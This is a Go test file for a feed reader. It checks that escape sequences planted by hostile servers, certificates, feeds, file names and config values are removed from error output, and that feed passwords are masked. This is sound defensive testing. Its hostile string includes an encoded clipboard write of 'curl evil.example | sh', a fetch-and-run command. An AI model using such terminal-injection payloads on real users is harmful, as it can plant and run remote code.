package main

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kolom/kolom/library/librarytest"
)

// hostileText is what a hostile server or file puts where kolom quotes it:
// it clears the screen, sets the window title, writes the clipboard,
// reverses text and sends a C1 CSI.
const hostileText = "\x1b[2J\x1b]2;PWNED\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\u202e\u009b31m"

// controlIn returns the first control or bidi character in s, if any.
func controlIn(s string) (rune, bool) {
	for _, c := range s {
		if c < 0x20 && c != '\n' && c != '\t' || c == 0x7f || c >= 0x80 && c <= 0x9f || c >= 0x202a && c <= 0x202e || c >= 0x2066 && c <= 0x2069 || c == 0xfffd {
			return c, true
		}
	}
	return 0, false
}

// rawServer answers every connection with resp, whatever was asked.
func rawServer(t *testing.T, resp string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				r := bufio.NewReader(c)
				for { // read the request head
					l, err := r.ReadString('\n')
					if err != nil || l == "\r\n" {
						break
					}
				}
				c.Write([]byte(resp))
			}()
		}
	}()
	return ln.Addr().String()
}

// evilTLS serves HTTPS with a certificate whose name carries escapes.
func evilTLS(t *testing.T) string {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "evil"},
		DNSNames: []string{"evil\x1b]2;PWNED\x07.example"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Skipf("cannot make a certificate with that name: %v", err)
	}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	srv.Config.ErrorLog = log.New(io.Discard, "", 0) // the refused handshakes are the point
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	// By name, so Go's error lists the names the certificate is valid for.
	return strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
}

// Error text is not feed text, yet servers and files write it: reason
// phrases, certificate names, parser errors that quote the feed, redirect
// targets, file names and config values. None of it may reach the terminal,
// the JSON or the library with a control character, and no password in a
// feed address may be shown.
func TestHostileErrorTextNeverReachesTheTerminal(t *testing.T) {
	dir := isolate(t)
	reason := rawServer(t, "HTTP/1.1 503 "+hostileText+"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
	redirect := rawServer(t, "HTTP/1.1 302 Found\r\nLocation: http://x.nl/"+hostileText+"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
	mux := http.NewServeMux()
	mux.HandleFunc("/xml", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		fmt.Fprint(w, "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><t\u009b31m"+hostileText+"></channel></rss>")
	})
	mux.HandleFunc("/500", func(w http.ResponseWriter, r *http.Request) { http.Error(w, "oops", 500) })
	srv := httptest.NewServer(mux)
	defer srv.Close()
	tlsURL := evilTLS(t)
	withPassword := strings.Replace(srv.URL, "http://", "http://jan:geheim@", 1)

	feeds := []string{"http://" + reason + "/feed", "http://" + redirect + "/feed", srv.URL + "/xml", tlsURL + "/feed", withPassword + "/500"}
	var outputs []string
	record := func(what string, r result) {
		outputs = append(outputs, what+" stdout: "+r.stdout, what+" stderr: "+r.stderr)
	}
	// add: every one fails, and says why.
	for _, u := range feeds {
		r := kolom(t, "add", u)
		if r.code != 1 || r.stderr == "" {
			t.Errorf("add %s: %+v", u, r)
		}
		record("add", r)
	}
	var opml strings.Builder
	opml.WriteString(`<opml version="2.0"><body>`)
	for _, u := range feeds {
		fmt.Fprintf(&opml, `<outline text="" xmlUrl="%s"/>`, strings.ReplaceAll(u, "&", "&amp;"))
	}
	opml.WriteString(`</body></opml>`)
	if r := kolom(t, "import", writeFile(t, filepath.Join(dir, "f.opml"), opml.String())); r.code != 0 {
		t.Fatalf("import: %+v", r)
	}
	r := kolom(t, "refresh")
	if r.code != 1 || strings.Count(r.stdout+r.stderr, "✗") != len(feeds) {
		t.Errorf("refresh: %+v", r)
	}
	record("refresh", r)
	for _, args := range [][]string{{"feeds"}, {"feeds", "--json"}} {
		record(strings.Join(args, " "), kolom(t, args...))
	}
	// A file name and a config value are quoted in their errors too.
	record("import", kolom(t, "import", filepath.Join(dir, "weg"+hostileText+".opml")))
	cfg := writeFile(t, filepath.Join(dir, "evil.toml"), "theme = \""+strings.ReplaceAll(hostileText, "\x1b", "\\u001b")+"\"\n")
	record("config", kolom(t, "--config", cfg, "feeds"))

	for _, out := range outputs {
		if c, bad := controlIn(out); bad {
			t.Errorf("%U reached the terminal in %q", c, out)
		}
		if strings.Contains(out, "geheim") {
			t.Errorf("the password is shown: %q", out)
		}
	}
	for _, want := range []string{"HTTP 503", "secure connection failed", "valid for evil", "jan:***@", "invalid"} {
		if !strings.Contains(strings.Join(outputs, "\n"), want) {
			t.Errorf("no %q in what kolom said:\n%s", want, strings.Join(outputs, "\n"))
		}
	}

	lib, err := (&globals{}).open(context.Background(), false)
	if err != nil {
		t.Fatal(err)
	}
	defer lib.Close()
	rows, err := librarytest.DB(lib).Query(`SELECT last_error FROM feeds`)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	n := 0
	for rows.Next() {
		var e string
		rows.Scan(&e)
		if c, bad := controlIn(e); bad || strings.Contains(e, "geheim") {
			t.Errorf("stored last_error carries %U or the password: %q", c, e)
		}
		n++
	}
	if n != len(feeds) {
		t.Errorf("%d feeds stored", n)
	}
}
